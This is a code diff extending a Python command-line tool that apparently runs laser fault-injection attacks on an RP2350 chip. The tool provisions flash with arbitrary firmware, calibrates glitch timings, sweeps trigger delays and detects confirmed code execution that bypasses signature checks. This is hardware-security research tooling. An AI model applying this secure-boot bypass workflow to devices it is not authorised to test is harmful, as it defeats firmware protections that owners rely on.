@@ -1,18 +1,78 @@
 #!/usr/bin/env python3
 """Main tool of the RP2350 Laser Fault Injection Project."""
+import hashlib
+import json
 import logging
+import math
+import multiprocessing
 import random
 import time
-from typing import Annotated
+from collections import Counter
+from enum import Enum
+from functools import partial
+from pathlib import Path
+from typing import Annotated, Callable, List, Optional
 
 import typer
 from requests import ConnectionError
 from rich.logging import RichHandler
 
-from rp2350_lfi import DeltaStage, FpgaController, LaserPulser
+from rp2350_lfi import (
+    AttemptOutcome,
+    AttemptRing,
+    Calibration,
+    Capability,
+    CapturePipeline,
+    ConsoleWatcher,
+    DeltaStage,
+    FlashRegionIndex,
+    FpgaController,
+    LaserPulser,
+    PauseReason,
+    Picotool,
+    QspiTrace,
+    QspiTraceStore,
+    RecoveryAction,
+    ScheduleEntry,
+    TargetHealthMonitor,
+    Telemetry,
+    TelemetryExporter,
+    WorkerConfig,
+    build_mosaic,
+    describe_address,
+    finish_attempt,
+    precedes_signature_block,
+    recommend_timeout,
+    retry_on_link_error,
+    run_worker,
+    start_attempt,
+    watch_reads,
+)
+from rp2350_lfi.flash_regions import FIRMWARE_OFFSET
 
 app = typer.Typer()
 
+FLASH_BASE_ADDRESS = 0x10000000
+FIRMWARE_ADDRESS = FLASH_BASE_ADDRESS + FIRMWARE_OFFSET
+
+CONSOLE_TIMEOUT = 3.0  # USB enumeration of the arbitrary firmware console (seconds)
+WORKER_STOP_TIMEOUT = 10.0  # How long the worker may take to stop (seconds)
+
+
+class SuccessPolicy(str, Enum):
+    """What to do once code execution has been confirmed."""
+
+    CONTINUE = "continue"
+    PAUSE = "pause"
+    STOP = "stop"
+
+
+class _StopAttackError(Exception):
+    """Code execution has been confirmed, and the attack must stop."""
+
+    pass
+
+
 FORMAT = "%(message)s"
 logging.basicConfig(
     level="INFO", format=FORMAT, datefmt="[%X]", handlers=[RichHandler(markup=True)]
@@ -60,19 +120,531 @@ def reset() -> None:
 def run_bootloader() -> None:
     """Run the bootloader of the target."""
     ctrl = FpgaController()
+    ctrl.run_bootloader()
+
+
+@app.command()
+def provision(
+    flash_0: Annotated[Path, typer.Option(help="Binary image for flash 0")],
+    flash_1: Annotated[Path, typer.Option(help="Binary image for flash 1")],
+    firmware: Annotated[
+        Path, typer.Option(help="Arbitrary firmware binary image, written to flash 1")
+    ] = Path("arbitrary_firmware/build/firmware.bin"),
+    force: Annotated[
+        bool, typer.Option(help="Write every region, even if its content matches")
+    ] = False,
+) -> None:
+    """Write the content of both QSPI flash components."""
+    ctrl = FpgaController()
+    picotool = Picotool()
+
+    layout = {
+        0: [(flash_0, FLASH_BASE_ADDRESS)],
+        1: [(flash_1, FLASH_BASE_ADDRESS), (firmware, FIRMWARE_ADDRESS)],
+    }
+
+    for index, regions in layout.items():
+        logging.info(f"Selecting flash {index}")
+        ctrl.set_power(False)
+        ctrl.select_flash(index)
+        ctrl.run_bootloader()
+        picotool.wait_for_device()
+
+        for filename, address in regions:
+            data = filename.read_bytes()
+
+            if (
+                not force
+                and picotool.read_hash(address, len(data))
+                == hashlib.sha256(data).digest()
+            ):
+                logging.info(f"{filename} is up to date at 0x{address:08x}, skipping")
+                continue
+
+            logging.info(f"Writing {filename} at 0x{address:08x}")
+            picotool.load(filename, address)
 
     ctrl.set_power(False)
-    ctrl.set_bootsel(False)
-    ctrl.set_run(False)
+    logging.info("Provisioning done")
+
+
+def _load_timings(calibration: Path) -> Calibration:
+    if calibration.exists():
+        logging.info(f"Loading calibration from {calibration}")
+        return Calibration.load(calibration)
+    return Calibration()
 
-    time.sleep(0.1)
 
-    ctrl.set_power(True)
+def _clean_reboot(
+    ctrl: FpgaController, poweroff_duration: float, timings: Calibration
+) -> bool:
+    """Run a single glitch attempt, and check the glitch engine has triggered."""
+    events = start_attempt(
+        ctrl, poweroff_duration, timings.success_timeout, timings.xip_timeout
+    )
+    finish_attempt(ctrl)
+    return events.outcome.healthy
+
+
+def _warn_if_truncated(event: str, latencies: List[float], wait: float) -> None:
+    # Events later than the wait are lost, so the measured distribution would
+    # be cut short.
+    if max(latencies) > wait / 2:
+        logging.warning(
+            f"{event} latencies approach the {1000 * wait:.1f} ms wait, "
+            "consider a larger --wait-factor"
+        )
+
+
+@app.command()
+def calibrate(
+    delay: Annotated[int, typer.Option(help="Trigger delay (clock cycles)")] = 200,
+    n_attempts: Annotated[
+        int, typer.Option(help="Number of attempts used to measure latencies")
+    ] = 500,
+    n_poweroff_attempts: Annotated[
+        int,
+        typer.Option(help="Number of clean reboots required for a power-off duration"),
+    ] = 20,
+    laser_voltage: Annotated[
+        float, typer.Option(help="Voltage of the Pulser Circuit (Volts)")
+    ] = 60,
+    disable_laser: Annotated[bool, typer.Option(help="Disable the laser")] = False,
+    wait_factor: Annotated[
+        float,
+        typer.Option(
+            help="Glitch events are waited for up to this multiple of the current timeouts"
+        ),
+    ] = 10.0,
+    max_wait: Annotated[
+        float, typer.Option(help="Upper bound of the glitch event waits (seconds)")
+    ] = 2.0,
+    min_samples: Annotated[
+        int,
+        typer.Option(help="Number of latency samples required to update a timeout"),
+    ] = 20,
+    margin: Annotated[
+        float, typer.Option(help="Safety factor applied to the measured values")
+    ] = 1.5,
+    output: Annotated[Path, typer.Option(help="Calibration file")] = Path(
+        "calibration.json"
+    ),
+) -> None:
+    """Measure the timing parameters of the attack loop."""
+    ctrl = FpgaController()
+
+    if not disable_laser:
+        laser_pulser = LaserPulser()
+    else:
+        logging.warning("Laser is disabled")
+
+    ctrl.set_power(False)
+    ctrl.set_bootsel(True)
     ctrl.set_run(True)
+    ctrl.cancel_glitch_engine()
+    ctrl.set_trigger_delay(delay)
 
-    time.sleep(0.1)
+    if not disable_laser:
+        logging.info(f"Enabling laser ({laser_voltage} V)")
+        laser_pulser.set_supply_voltage(laser_voltage)
+        laser_pulser.set_power(True)
+        laser_pulser.set_driver_en(True)
+
+    timings = _load_timings(output)
+
+    try:
+        #
+        # Find the shortest power-off duration giving a clean reboot, i.e.
+        # a reboot where the glitch engine always triggers.
+        #
+        for candidate in (0.0001, 0.0002, 0.0005, 0.001, 0.002, 0.005, 0.01, 0.02):
+            logging.info(f"Trying a {1000 * candidate:.1f} ms power-off duration")
+            if all(
+                _clean_reboot(ctrl, candidate, timings)
+                for _ in range(n_poweroff_attempts)
+            ):
+                timings.poweroff_duration = margin * candidate
+                break
+        else:
+            logging.error("No power-off duration gives a clean reboot")
+            raise typer.Exit(-1)
 
+        #
+        # Measure the latency distributions of the glitch events. Most attempts
+        # produce no S event, so waiting for it is bounded by the current timeout
+        # rather than by max_wait, which would make each miss very long.
+        #
+        success_wait = min(max_wait, wait_factor * timings.success_timeout)
+        xip_wait = min(max_wait, wait_factor * timings.xip_timeout)
+        logging.info(
+            f"Waiting up to {1000 * success_wait:.1f} ms for S events "
+            f"and {1000 * xip_wait:.1f} ms for X events"
+        )
+
+        done_to_success = []
+        success_to_xip = []
+        for n in range(n_attempts):
+            events = start_attempt(
+                ctrl, timings.poweroff_duration, success_wait, xip_wait
+            )
+            finish_attempt(ctrl)
+            if not math.isnan(events.success_latency):
+                done_to_success.append(events.success_latency)
+            if not math.isnan(events.xip_latency):
+                success_to_xip.append(events.xip_latency)
+            if (n + 1) % 100 == 0:
+                logging.info(
+                    f"{n + 1} / {n_attempts} attempts, "
+                    f"{len(done_to_success)} S events, {len(success_to_xip)} X events"
+                )
+    finally:
+        ctrl.cancel_glitch_engine()
+        ctrl.set_power(False)
+
+        if not disable_laser:
+            laser_pulser.set_driver_en(False)
+            laser_pulser.set_power(False)
+
+    if len(done_to_success) >= min_samples:
+        logging.info(
+            f"D to S latency: min {1000 * min(done_to_success):.2f} ms, "
+            f"max {1000 * max(done_to_success):.2f} ms"
+        )
+        _warn_if_truncated("S", done_to_success, success_wait)
+        timings.success_timeout = recommend_timeout(done_to_success, margin)
+    else:
+        logging.warning(
+            f"{len(done_to_success)} S events observed, {min_samples} required, "
+            "keeping the current success timeout"
+        )
+
+    if len(success_to_xip) >= min_samples:
+        logging.info(
+            f"S to X latency: min {1000 * min(success_to_xip):.2f} ms, "
+            f"max {1000 * max(success_to_xip):.2f} ms"
+        )
+        _warn_if_truncated("X", success_to_xip, xip_wait)
+        timings.xip_timeout = recommend_timeout(success_to_xip, margin)
+    else:
+        logging.warning(
+            f"{len(success_to_xip)} X events observed, {min_samples} required, "
+            "keeping the current XIP timeout"
+        )
+
+    logging.info(f"Recommended values: {timings}")
+    timings.save(output)
+
+
+@app.command(hidden=True)  # Not supported by the gateware yet
+def record_golden_trace(
+    output: Annotated[Path, typer.Option(help="Golden trace file")] = Path(
+        "golden.trace"
+    ),
+    n_boots: Annotated[int, typer.Option(help="Number of boots to record")] = 10,
+    boot_duration: Annotated[
+        float, typer.Option(help="How long to let the target boot (seconds)")
+    ] = 0.1,
+) -> None:
+    """Record the QSPI flash accesses of a boot without laser pulse."""
+    ctrl = FpgaController()
+
+    if Capability.ACCESS_TRACE not in ctrl.capabilities:
+        logging.error("The gateware does not record QSPI flash accesses")
+        exit(-1)
+
+    ctrl.set_power(False)
     ctrl.set_bootsel(True)
+    ctrl.set_run(True)
+    ctrl.cancel_glitch_engine()
+
+    golden = QspiTrace()
+    for _ in range(n_boots):
+        # Arming the glitch engine clears the recorded accesses. A normal boot
+        # may still report flash reads as S and X events, which are consumed
+        # while the boot completes.
+        t_start = time.perf_counter()
+        events = start_attempt(ctrl, 0.01, boot_duration, boot_duration)
+        if not events.outcome.healthy:
+            logging.warning(f"{events.outcome.name}, skipping this boot")
+            finish_attempt(ctrl)
+            continue
+
+        time.sleep(max(0.0, boot_duration - (time.perf_counter() - t_start)))
+        finish_attempt(ctrl)
+
+        # Different boots may access slightly different lines, none of them
+        # is a glitch effect.
+        golden |= ctrl.get_access_trace()
+
+    logging.info(f"Golden boot trace: {golden}")
+    output.write_bytes(golden.to_rle())
+
+
+def _record_hit(
+    hits_file: Path,
+    on_success: SuccessPolicy,
+    attempt: int,
+    delay: int,
+    laser_voltage: float,
+    output: Optional[str],
+) -> None:
+    """Record a confirmed code execution, and apply the success policy."""
+    hit = {
+        "time": time.time(),
+        "attempt": attempt,
+        "delay": delay,
+        "laser_voltage": laser_voltage,
+        "output": output,
+    }
+    with hits_file.open("a") as f:
+        f.write(json.dumps(hit) + "\n")
+
+    if on_success == SuccessPolicy.STOP:
+        raise _StopAttackError()
+    if on_success == SuccessPolicy.PAUSE:
+        input("Code execution confirmed, press enter to continue")
+
+
+def _attack_with_worker(
+    config: WorkerConfig,
+    laser_voltage: float,
+    disable_laser: bool,
+    console_device: Optional[str],
+    on_success: SuccessPolicy,
+    hits_file: Path,
+    telemetry: Optional[Telemetry],
+    exporter: Optional[TelemetryExporter],
+) -> None:
+    """Run the attempts in a dedicated worker process.
+
+    This process is the control plane: it only reads attempt records from the
+    shared memory ring, logs them, and handles the events requiring attention.
+
+    The worker is forked before any thread is started, such as the ones of the
+    console watcher and of the metrics exporter. A forked process only gets the
+    calling thread, and the locks held by the others would never be released.
+    """
+    if not disable_laser:
+        laser_pulser = LaserPulser()
+        logging.info(f"Enabling laser ({laser_voltage} V)")
+        laser_pulser.set_supply_voltage(laser_voltage)
+        laser_pulser.set_power(True)
+        laser_pulser.set_driver_en(True)
+    else:
+        logging.warning("Laser is disabled")
+
+    regions = config.regions
+
+    ring = AttemptRing()
+    worker = multiprocessing.get_context("fork").Process(
+        target=run_worker, args=(ring, config), daemon=True
+    )
+    worker.start()
+
+    console = None
+    n_attempts = 0
+    outcomes: Counter = Counter()
+
+    try:
+        if console_device is not None:
+            console = ConsoleWatcher(console_device)
+            console.start()
+        if exporter is not None:
+            exporter.start()
+
+        while worker.is_alive():
+            # The worker sets the pause reason before pushing the record of an
+            # attempt to assess, so a recovery pause is never mistaken for it.
+            paused = ring.paused
+            records = ring.pop_all()
+
+            for record in records:
+                n_attempts += 1
+                outcome = AttemptOutcome(record.outcome)
+                outcomes[outcome] += 1
+                if telemetry is not None:
+                    telemetry.record(outcome, record.delay)
+
+                logging.info(
+                    f"Attempt {record.number + 1}: delay {record.delay} cycles, {outcome.name}"
+                )
+                if outcome < AttemptOutcome.SUCCESS:
+                    continue
+
+                logging.info(
+                    f"start_address = {describe_address(record.start_address, regions)}"
+                )
+                logging.info(
+                    f"max_address = {describe_address(record.max_address, regions)}"
+                )
+                if not record.paused:
+                    continue
+
+                # The target is left running until the situation is assessed
+                if outcome == AttemptOutcome.XIP:
+                    output = None
+                    if console is not None:
+                        output = console.wait(timeout=CONSOLE_TIMEOUT)
+                        console.clear()
+
+                    if output is not None:
+                        logging.info(
+                            f"Code execution confirmed, console output: {output!r}"
+                        )
+                        _record_hit(
+                            hits_file,
+                            on_success,
+                            record.number + 1,
+                            record.delay,
+                            laser_voltage,
+                            output,
+                        )
+                    elif console is not None:
+                        logging.warning("No console output")
+                    else:
+                        logging.info(
+                            "Detected a possible success, please check if a console is available"
+                        )
+                        input("Press enter to continue")
+
+                if precedes_signature_block(record.max_address, regions):
+                    logging.info("Interesting behavior detected, let's wait here")
+                    input("...")
+
+                ring.paused = PauseReason.NONE
+
+            if paused == PauseReason.RECOVERY:
+                logging.critical("Target cannot be recovered, the attack is paused")
+                input("Press enter to resume")
+                ring.paused = PauseReason.NONE
+
+            if telemetry is not None:
+                telemetry.link_latency = ring.link_latency
+                telemetry.reconnects = ring.reconnects
+                telemetry.recovery = ring.recovery_stats()
+
+            if not records:
+                time.sleep(0.01)
+
+    except KeyboardInterrupt:
+        logging.info(f"Interrupted after {n_attempts} attempts")
+    except _StopAttackError:
+        logging.info(f"Code execution confirmed after {n_attempts} attempts")
+    finally:
+        # The laser is turned off even if the worker does not stop, or if
+        # waiting for it is interrupted.
+        try:
+            ring.stop = True
+            worker.join(timeout=WORKER_STOP_TIMEOUT)
+            if worker.is_alive():
+                logging.warning("The worker does not stop, terminating it")
+                worker.terminate()
+                worker.join()
+
+            if ring.dropped:
+                logging.warning(f"{ring.dropped} attempt records have been dropped")
+            ring.close()
+
+            if console is not None:
+                console.stop()
+            if exporter is not None:
+                exporter.stop()
+        finally:
+            if not disable_laser:
+                laser_pulser.set_driver_en(False)
+                laser_pulser.set_power(False)
+
+    for outcome, count in sorted(outcomes.items()):
+        logging.info(f"{outcome.name}: {count}")
+
+
+def _wait_for_operator() -> None:
+    input("Press enter to resume")
+
+
+def _attempt(
+    ctrl: FpgaController,
+    timings: Calibration,
+    regions: Optional[FlashRegionIndex],
+    console: Optional[ConsoleWatcher],
+    on_confirmed: Callable[[str], None],
+) -> AttemptOutcome:
+    """Run a single glitch attempt.
+
+    Args:
+        ctrl (FpgaController): Interface to the gateware.
+        timings (Calibration): Timings of the attempt.
+        regions (Optional[FlashRegionIndex]): Region index of the monitored flash.
+        console (Optional[ConsoleWatcher]): Console of the arbitrary firmware.
+        on_confirmed (Callable[[str], None]): Called with the console output once
+            code execution has been confirmed, while the target is still running.
+
+    Returns:
+        AttemptOutcome: The outcome of the attempt.
+    """
+    if console is not None:
+        console.clear()
+
+    #
+    # ARM glitch engine, start the target and wait for the glitch events.
+    # Here, a success is simply defined as a new QSPI read detected on the bus.
+    # This doesn't mean the attack is a success yet, but shows the laser pulse did
+    # something. Next, data corresponding to the XIP custom firmware being read
+    # could mean this firmware is being executed.
+    #
+    events = start_attempt(
+        ctrl, timings.poweroff_duration, timings.success_timeout, timings.xip_timeout
+    )
+    outcome = events.outcome
+    if events.schedule_index is not None:
+        logging.info(f"Schedule entry {events.schedule_index} has been used")
+
+    if outcome == AttemptOutcome.NO_TRIGGER:
+        logging.error("Glitch engine has not triggered")
+    if outcome < AttemptOutcome.SUCCESS:
+        finish_attempt(ctrl)
+        return outcome
+
+    logging.info("Possible glitch success, another flash byte has been read.")
+
+    if outcome == AttemptOutcome.XIP:
+        logging.info("XIP data has been read")
+
+        if console is not None:
+            # The arbitrary firmware prints a banner on its USB console,
+            # wait for it to be enumerated.
+            output = console.wait(timeout=CONSOLE_TIMEOUT)
+            if output is not None:
+                logging.info(f"Code execution confirmed, console output: {output!r}")
+                outcome = AttemptOutcome.CONSOLE
+                on_confirmed(output)
+            else:
+                logging.warning("No console output")
+
+            max_address = ctrl.get_max_address()
+        else:
+            possible_attack_success, max_address = watch_reads(ctrl, regions)
+            if possible_attack_success:
+                logging.info(
+                    "Detected a possible success, please check if a console is available"
+                )
+                input("Press enter to continue")
+    else:
+        logging.warning("XIP data has not been read")
+        start_address = ctrl.get_start_address()
+        max_address = ctrl.get_max_address()
+        logging.info(f"start_address = {describe_address(start_address, regions)}")
+        logging.info(f"max_address = {describe_address(max_address, regions)}")
+
+    # More heuristics matching for interesting fault behaviors. They could indicate
+    # a "good" laser positioning. Pause the attack, so the situation can be assessed.
+    if precedes_signature_block(max_address, regions):
+        logging.info("Interesting behavior detected, let's wait here")
+        input("...")
+
+    finish_attempt(ctrl)
+
+    return outcome
 
 
 @app.command()
@@ -97,29 +669,219 @@ def attack(
     ] = 60,
     disable_laser: Annotated[bool, typer.Option(help="Disable the laser")] = False,
     success_timeout: Annotated[
-        float,
-        typer.Option(help="How long to wait for a possible glitch success (seconds)"),
-    ] = 0.004,
+        Optional[float],
+        typer.Option(
+            help="How long to wait for a possible glitch success (seconds)",
+            show_default="calibrated, or 0.004",
+        ),
+    ] = None,
     poweroff_duration: Annotated[
-        float, typer.Option(help="How long to wait between retries (seconds)")
-    ] = 0.001,
+        Optional[float],
+        typer.Option(
+            help="How long to wait between retries (seconds)",
+            show_default="calibrated, or 0.001",
+        ),
+    ] = None,
+    calibration: Annotated[
+        Path, typer.Option(help="Calibration file, used if it exists")
+    ] = Path("calibration.json"),
     walk_method: Annotated[
         bool, typer.Option(help="Randomly move the delta stage from time to time")
     ] = False,
     randomize_laser_power: Annotated[
         bool, typer.Option(help="Randomly change the power of the laser pulses")
     ] = False,
+    health_threshold: Annotated[
+        int,
+        typer.Option(
+            help="Number of consecutive failed boots before escalating target recovery"
+        ),
+    ] = 5,
+    schedule: Annotated[
+        bool,
+        typer.Option(
+            help="Upload the trigger delays to the glitch engine instead of setting them one by one",
+            hidden=True,  # Not supported by the gateware yet
+        ),
+    ] = False,
+    console_device: Annotated[
+        Optional[str],
+        typer.Option(
+            help="Console device of the arbitrary firmware, used to confirm code execution"
+        ),
+    ] = None,
+    on_success: Annotated[
+        SuccessPolicy,
+        typer.Option(help="What to do once code execution has been confirmed"),
+    ] = SuccessPolicy.PAUSE,
+    hits_file: Annotated[
+        Path, typer.Option(help="Confirmed code executions are recorded in this file")
+    ] = Path("hits.jsonl"),
+    region_index: Annotated[
+        Optional[Path],
+        typer.Option(
+            help="Region index generated by binary-patcher, used to name QSPI addresses"
+        ),
+    ] = None,
+    trace_file: Annotated[
+        Optional[Path],
+        typer.Option(
+            help="Store the QSPI flash accesses of every attempt in this file",
+            hidden=True,  # Not supported by the gateware yet
+        ),
+    ] = None,
+    golden_trace: Annotated[
+        Optional[Path],
+        typer.Option(
+            help="Report QSPI flash accesses not part of this golden trace",
+            hidden=True,  # Not supported by the gateware yet
+        ),
+    ] = None,
+    worker: Annotated[
+        bool,
+        typer.Option(
+            help="Run the attempts in a dedicated process, isolated from logging and UI"
+        ),
+    ] = False,
+    worker_cpu: Annotated[
+        Optional[int], typer.Option(help="CPU the worker process is pinned to")
+    ] = None,
+    extra_pulse: Annotated[
+        Optional[List[str]],
+        typer.Option(
+            help="Additional laser pulse, as OFFSET:WIDTH (clock cycles). Requires --schedule",
+            hidden=True,  # Not supported by the gateware yet
+        ),
+    ] = None,
+    capture_dir: Annotated[
+        Optional[Path],
+        typer.Option(
+            help="Take a picture of the die at each stage position and glitch event, in this directory"
+        ),
+    ] = None,
+    metrics_port: Annotated[
+        Optional[int],
+        typer.Option(help="Serve live metrics on this port, at /metrics (OpenMetrics)"),
+    ] = None,
+    metrics_host: Annotated[
+        str, typer.Option(help="Address the metrics endpoint listens on")
+    ] = "127.0.0.1",
+    metrics_file: Annotated[
+        Optional[Path],
+        typer.Option(
+            help="Periodically rewrite live metrics to this file (OpenMetrics)"
+        ),
+    ] = None,
+    rig_name: Annotated[
+        Optional[str],
+        typer.Option(help="Name of the rig in the metrics, the host name by default"),
+    ] = None,
 ) -> None:
     """Attack the target."""
-    if walk_method:
+    timings = _load_timings(calibration)
+    if success_timeout is not None:
+        timings.success_timeout = success_timeout
+    if poweroff_duration is not None:
+        timings.poweroff_duration = poweroff_duration
+    logging.info(f"{timings}")
+
+    pulses = []
+    for pulse in extra_pulse or []:
+        try:
+            offset, width = pulse.split(":")
+            pulses.append((int(offset, 0), int(width, 0)))
+        except ValueError:
+            raise typer.BadParameter(
+                f"{pulse!r} is not OFFSET:WIDTH", param_hint="--extra-pulse"
+            )
+    if pulses and not schedule:
+        logging.error("Additional laser pulses require --schedule")
+        exit(-1)
+
+    delays = range(start_delay, end_delay, delay_step)
+    schedule_entries = [
+        ScheduleEntry(delay, pulses) for delay in delays for _ in range(n_retries)
+    ]
+    chunk: List[ScheduleEntry] = []
+    next_chunk_start = 0
+
+    telemetry = None
+    exporter = None
+    if metrics_port is not None or metrics_file is not None:
+        telemetry = Telemetry(rig_name)
+        telemetry.laser_voltage = math.nan if disable_laser else laser_voltage
+        exporter = TelemetryExporter(
+            telemetry, port=metrics_port, path=metrics_file, host=metrics_host
+        )
+
+    if worker:
+        if (
+            walk_method
+            or randomize_laser_power
+            or schedule
+            or trace_file is not None
+            or golden_trace is not None
+            or capture_dir is not None
+        ):
+            logging.error(
+                "--walk-method, --randomize-laser-power, --schedule, QSPI traces "
+                "and --capture-dir are not supported with --worker"
+            )
+            exit(-1)
+
+        _attack_with_worker(
+            WorkerConfig(
+                list(delays),
+                n_retries,
+                timings,
+                health_threshold,
+                cpu=worker_cpu,
+                regions=(
+                    FlashRegionIndex.load(region_index)
+                    if region_index is not None
+                    else None
+                ),
+                watch_reads=console_device is None,
+            ),
+            laser_voltage,
+            disable_laser,
+            console_device,
+            on_success,
+            hits_file,
+            telemetry,
+            exporter,
+        )
+        return
+
+    if exporter is not None:
+        exporter.start()
+
+    if walk_method or capture_dir is not None:
         try:
             delta_stage = DeltaStage()
+            position = delta_stage.get_position()
         except ConnectionError:
             logging.error("Cannot connect to the delta stage")
             exit(-1)
 
+    captures = None
+    if capture_dir is not None:
+        captures = CapturePipeline(delta_stage, capture_dir)
+        captures.start()
+        captures.request(position)
+
     ctrl = FpgaController()
 
+    if schedule and Capability.SCHEDULE not in ctrl.capabilities:
+        logging.error("The gateware does not support trigger delay schedules")
+        exit(-1)
+
+    if (trace_file is not None or golden_trace is not None) and (
+        Capability.ACCESS_TRACE not in ctrl.capabilities
+    ):
+        logging.error("The gateware does not record QSPI flash accesses")
+        exit(-1)
+
     if not disable_laser:
         laser_pulser = LaserPulser()
     else:
@@ -140,6 +902,32 @@ def attack(
         laser_pulser.set_power(True)
         laser_pulser.set_driver_en(True)
 
+    console = None
+    if console_device is not None:
+        console = ConsoleWatcher(console_device)
+        console.start()
+
+    regions = None
+    if region_index is not None:
+        regions = FlashRegionIndex.load(region_index)
+
+    golden = None
+    if golden_trace is not None:
+        golden = QspiTrace.from_rle(golden_trace.read_bytes())
+
+    trace_store = None
+    if trace_file is not None:
+        trace_store = QspiTraceStore(trace_file)
+
+    health_monitor = TargetHealthMonitor(
+        ctrl, on_pause=_wait_for_operator, threshold=health_threshold
+    )
+
+    if telemetry is not None:
+        telemetry.recovery = health_monitor.stats
+        if walk_method or captures is not None:
+            telemetry.position = position
+
     total_retry_count = 0
     n_events = 0
     previous_n_events = 0
@@ -165,14 +953,20 @@ def attack(
                 )
                 logging.info(f"Moving delta stage to {position}")
                 delta_stage.move_to(position)
+                position = delta_stage.get_position()
+                if telemetry is not None:
+                    telemetry.position = position
+                if captures is not None:
+                    captures.request(position)
                 event_update = False
                 previous_n_events = n_events
 
             # Note that iterating over various delay is possibly useless because of the
             # random delays inserted by the Boot ROM.
-            for delay in range(start_delay, end_delay, delay_step):
-                logging.info(f"Setting trigger delay to {delay} cycles")
-                ctrl.set_trigger_delay(delay)
+            for delay in delays:
+                if not schedule:
+                    logging.info(f"Setting trigger delay to {delay} cycles")
+                    retry_on_link_error(ctrl, lambda: ctrl.set_trigger_delay(delay))
 
                 if randomize_laser_power:
                     laser_voltage = random.randrange(
@@ -180,118 +974,111 @@ def attack(
                     )  # Hardcoded values determined empirically
                     logging.info(f"Setting laser voltage to {laser_voltage} V")
                     laser_pulser.set_supply_voltage(laser_voltage)
+                    if telemetry is not None:
+                        telemetry.laser_voltage = laser_voltage
 
                 # Multiple retries with the same laser and delay parameters
                 for retry in range(n_retries):
                     logging.info(f"Attempt {retry + 1} / {n_retries}")
                     total_retry_count += 1
 
-                    #
-                    # ARM glitch engine and start the target
-                    #
-                    ctrl.arm_glitch_engine()
-                    time.sleep(poweroff_duration)
-                    ctrl.set_power(True)
-
-                    #
-                    # Wait for glitch engine to be done
-                    #
-                    try:
-                        ctrl.wait_glitch_done()
-                    except TimeoutError:
-                        logging.error("Glitch engine has not triggered")
-                        ctrl.cancel_glitch_engine()
-                        ctrl.set_power(False)
-                        continue
-
-                    #
-                    # Check for a possible glitch success.
-                    # Here, a success is simply defined as a new QSPI read detected on the bus.
-                    # This doesn't mean the attack is a success yet, but shows the laser pulse did
-                    # something.
-                    #
-                    try:
-                        ctrl.wait_glitch_success(timeout=success_timeout)
-                        logging.info(
-                            "Possible glitch success, another flash byte has been read."
-                        )
-                        n_events += 1
-                        event_update = True
-                    except TimeoutError:
-                        ctrl.cancel_glitch_engine()
-                        ctrl.set_power(False)
-                        continue
-
-                    #
-                    # Next, check if data corresponding to the XIP custom firmware has been read
-                    # If yes, it could mean this firmware is being executed.
-                    #
-                    try:
-                        ctrl.wait_xip_success(timeout=1.0)
-                        logging.info("XIP data has been read")
-
-                        # Read the highest address accessed on the QSPI bus.
-                        # Occasionally, the glitch forces weird unwanted behavior
-                        # we can heuristically detect.
-                        logging.info("Monitoring QSPI reads")
-                        possible_attack_success = True
-                        prev_max_address = 0
-                        for _ in range(8):
-                            max_address = ctrl.get_max_address()
-                            logging.info(f"{max_address = :x}")
-
-                            if (
-                                max_address == 0xFFFFFE
-                            ):  # The SHA-256 was computed over the entire SPI flash
-                                logging.warning("Detected SHA-256 mega-loop")
-                                possible_attack_success = False
-                                break
-
-                            if (
-                                max_address == 0x13FE and prev_max_address == 0x13FE
-                            ):  # Not sure what that is, but this common behavior isn't a success
-
-                                logging.warning("Detected weird 0x13fe thing")
-                                possible_attack_success = False
-                                break
-
-                            prev_max_address = max_address
-
-                            time.sleep(5)
-
-                        start_address = ctrl.get_start_address()
-                        read_size = max_address - start_address + 1
-
-                        if possible_attack_success:
-                            logging.info(
-                                "Detected a possible success, please check if a console is available"
+                    # The schedule is uploaded by chunks, when the previous one
+                    # has been entirely consumed by the glitch engine. The
+                    # controller counts the consumed entries, including the ones
+                    # used again after an interrupted attempt.
+                    attempt_delay = delay
+                    if schedule:
+                        if ctrl.schedule_consumed >= len(chunk):
+                            chunk = schedule_entries[
+                                next_chunk_start : next_chunk_start + ctrl.SCHEDULE_SIZE
+                            ]
+                            next_chunk_start = (next_chunk_start + len(chunk)) % len(
+                                schedule_entries
                             )
-                            input("Press enter to continue")
+                            logging.info(f"Uploading {len(chunk)} schedule entries")
+                            retry_on_link_error(
+                                ctrl, lambda: ctrl.upload_schedule(chunk)
+                            )
+                        attempt_delay = chunk[ctrl.schedule_consumed].delay
+                        logging.info(f"Scheduled trigger delay: {attempt_delay} cycles")
 
-                    except TimeoutError:
-                        logging.warning("XIP data has not been read")
-                        start_address = ctrl.get_start_address()
-                        max_address = ctrl.get_max_address()
-                        logging.info(f"{start_address = :x}")
-                        logging.info(f"{max_address = :x}")
+                    # The success policy is applied while the target is running
+                    on_confirmed = partial(
+                        _record_hit,
+                        hits_file,
+                        on_success,
+                        total_retry_count,
+                        attempt_delay,
+                        laser_voltage,
+                    )
+                    outcome = retry_on_link_error(
+                        ctrl,
+                        lambda: _attempt(ctrl, timings, regions, console, on_confirmed),
+                    )
+                    if telemetry is not None:
+                        telemetry.record(outcome, attempt_delay)
+                        telemetry.link_latency = ctrl.link_latency
+                        telemetry.reconnects = ctrl.reconnect_count
 
-                        read_size = max_address - start_address + 1
+                    if outcome >= AttemptOutcome.SUCCESS:
+                        n_events += 1
+                        event_update = True
+                        if captures is not None:
+                            captures.record_event(position)
+                            captures.request(position)
 
-                    # More heuristics matching for interesting fault behaviors. They could indicate
-                    # a "good" laser positioning. Pause the attack, so the situation can be assessed.
-                    if (read_size == 0x13D8) or (max_address == 0x27AF):
-                        logging.info("Interesting behavior detected, let's wait here")
-                        input("...")
+                    if trace_store is not None or golden is not None:
+                        trace = retry_on_link_error(ctrl, ctrl.get_access_trace)
+                        if trace_store is not None:
+                            trace_store.append(total_retry_count, outcome, trace)
+                        if golden is not None and outcome >= AttemptOutcome.SUCCESS:
+                            extra, missing = trace.diff(golden)
+                            logging.info(
+                                f"Lines not read during a normal boot: {extra}"
+                            )
+                            if regions is not None:
+                                names = {
+                                    regions.name(start)
+                                    for start, _ in extra.address_ranges()
+                                }
+                                logging.info(f"Regions read after the glitch: {names}")
+                            logging.info(f"Normal boot lines not read: {missing}")
 
-                    ctrl.cancel_glitch_engine()
-                    ctrl.set_power(False)
+                    retry_on_link_error(ctrl, lambda: health_monitor.record(outcome))
 
             logging.info("Main loop iteration completed")
 
     except KeyboardInterrupt:
         logging.info(f"Interrupted after {total_retry_count} attempts")
-        pass
+    except _StopAttackError:
+        logging.info(f"Code execution confirmed after {total_retry_count} attempts")
+    finally:
+        if trace_store is not None:
+            trace_store.close()
+
+    if console is not None:
+        console.stop()
+
+    if captures is not None:
+        captures.stop()
 
+    if exporter is not None:
+        exporter.stop()
